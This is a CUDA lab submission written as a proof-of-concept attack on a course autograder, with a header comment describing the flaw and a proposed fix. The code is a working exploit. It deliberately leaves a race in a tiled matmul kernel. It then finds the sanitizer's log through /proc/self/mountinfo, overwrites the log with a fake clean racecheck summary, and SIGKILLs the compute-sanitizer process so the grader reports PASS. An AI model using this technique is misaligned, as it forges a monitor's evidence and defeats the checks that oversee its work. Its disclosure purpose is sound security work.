/* Attack (the sanitizer's report is written where the watched program can write; needs a GPU to confirm).
 * labs/steps/sanitizer.sh runs compute-sanitizer INSIDE the runner's sandbox with --log-file
 * $tmp/out.TOOL/log, and labs/steps/run.sh sandbox_words binds that folder read-write
 * (--bind "$tmp/out.$1"): the process the tool watches can rewrite the tool's report. Its only other
 * witness is the tool's exit status (86 on a finding, from "judge-runner-exit"), and a tool killed before
 * it exits leaves no such line: sanitizer.sh takes a missing runner-exit for no finding, and a log with a
 * SUMMARY line and no finding lines for "clean".
 * The kernel is the course's register tile with its second __syncthreads() left out: labs/solutions/
 * mistakes.txt's ch5_register_tile no_second_barrier, which racecheck alone catches ("FAIL (racecheck)" in
 * labs/README.md's table: every element right). When the runner ends (an atexit handler, after the judge's
 * QUIT: every call answered), if its mount table shows racecheck's folder (out.racecheck), it replaces the
 * log with "========= RACECHECK SUMMARY: 0 hazards displayed (0 errors, 0 warnings)" and SIGKILLs its
 * ancestors whose executable is compute-sanitizer's (same user, same PID namespace): the tool never
 * writes its own summary nor exits 86. bwrap then ends with 137 (or the judge kills it after its grace):
 * no 86, no judge failure, a SUMMARY line, no finding: "racecheck: clean".
 * (Against memcheck the same rewrite does not suffice where memcheck stops the faulting kernel: the call
 * then fails, "did not finish". racecheck and synccheck report and let the kernel run on.)
 * Shown without a GPU (/tmp/attack/harness/log_writable.sh): a process in a tool's sandbox finds the
 * folder in /proc/self/mountinfo and replaces the log; findings.awk then reads nothing.
 * Expected on a GPU: PASS, exit 0, with the race.
 * Fix: the tool's report out of the student's reach: a FIFO the judge reads, bound into the sandbox as the
 * log (append-only: a finding written cannot be taken back), or the tool run outside the sandbox around it;
 * and labs/steps/sanitizer.sh requires "judge-runner-exit 0" before it says clean (a tool that did not
 * exit by itself did not finish). */

#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static char log_path[600];

static void rewrite_and_silence(void)
{
    int fd = open(log_path, O_WRONLY | O_TRUNC);
    if (fd >= 0) {
        const char *clean = "========= RACECHECK SUMMARY: 0 hazards displayed (0 errors, 0 warnings)\n";
        if (write(fd, clean, strlen(clean)) < 0) {
        }
        close(fd);
    }
    int pid = (int)getppid();  /* the tool's front end: an ancestor whose executable is compute-sanitizer's */
    for (int depth = 0; pid > 1 && depth < 8; depth++) {
        char path[64], exe[512], stat[512];
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        ssize_t got = readlink(path, exe, sizeof exe - 1);
        exe[got > 0 ? got : 0] = 0;
        int next = 0;
        snprintf(path, sizeof path, "/proc/%d/stat", pid);
        FILE *f = fopen(path, "r");
        if (f) {
            if (fgets(stat, sizeof stat, f)) {
                char *paren = strrchr(stat, ')');
                if (paren)
                    sscanf(paren + 2, "%*c %d", &next);
            }
            fclose(f);
        }
        if (strstr(exe, "anitizer"))
            kill(pid, SIGKILL);
        pid = next;
    }
}

static void under_racecheck(void)
{
    static int done;
    if (done++)
        return;
    FILE *m = fopen("/proc/self/mountinfo", "r");
    char line[1024], point[512];
    while (m && fgets(line, sizeof line, m))
        if (strstr(line, "/out.racecheck ") && sscanf(line, "%*s %*s %*s %*s %511s", point) == 1) {
            snprintf(log_path, sizeof log_path, "%s/log", point);
            atexit(rewrite_and_silence);
            break;
        }
    if (m)
        fclose(m);
}

#define BM 64  /* rows of C a block computes */
#define BN 64  /* columns */
#define BK 16  /* the step along k */

__global__ void matmul(const float *A, const float *B, float *C, int m, int n, int k)
{
    __shared__ float a[BM][BK + 1], b[BK][BN];  /* +1: a column of a spans all the banks */
    int tx = threadIdx.x, ty = threadIdx.y, id = ty * 16 + tx;
    int row0 = blockIdx.y * BM, col0 = blockIdx.x * BN;
    float acc[4][4] = {{0.0f}};
    for (int t = 0; t < k; t += BK) {
        for (int e = id; e < BM * BK; e += 256) {  /* A's tile: consecutive threads along a row of A */
            int r = e / BK, c = e % BK;
            a[r][c] = row0 + r < m && t + c < k ? A[(long long)(row0 + r) * k + t + c] : 0.0f;
        }
        for (int e = id; e < BK * BN; e += 256) {  /* B's tile: along a row of B */
            int r = e / BN, c = e % BN;
            b[r][c] = t + r < k && col0 + c < n ? B[(long long)(t + r) * n + col0 + c] : 0.0f;
        }
        __syncthreads();  /* both tiles loaded */
        for (int i = 0; i < BK; i++) {
            float a_reg[4], b_reg[4];
            for (int r = 0; r < 4; r++)
                a_reg[r] = a[ty + 16 * r][i];
            for (int c = 0; c < 4; c++)
                b_reg[c] = b[i][tx + 16 * c];
            for (int r = 0; r < 4; r++)
                for (int c = 0; c < 4; c++)
                    acc[r][c] += a_reg[r] * b_reg[c];
        }
        /* (no barrier) */
    }
    for (int r = 0; r < 4; r++)
        for (int c = 0; c < 4; c++) {
            int row = row0 + ty + 16 * r, col = col0 + tx + 16 * c;
            if (row < m && col < n)
                C[(long long)row * n + col] = acc[r][c];
        }
}

/* The runner calls this with matrices on the GPU. */
static void solution_launch(const float *A, const float *B, float *C, int m, int n, int k)
{
    dim3 threads(16, 16), blocks((n + BN - 1) / BN, (m + BM - 1) / BM);
    matmul<<<blocks, threads>>>(A, B, C, m, n, k);
}

void lab_matmul(const float *A, const float *B, float *C, int m, int n, int k)
{
    under_racecheck();
    solution_launch(A, B, C, m, n, k);
}
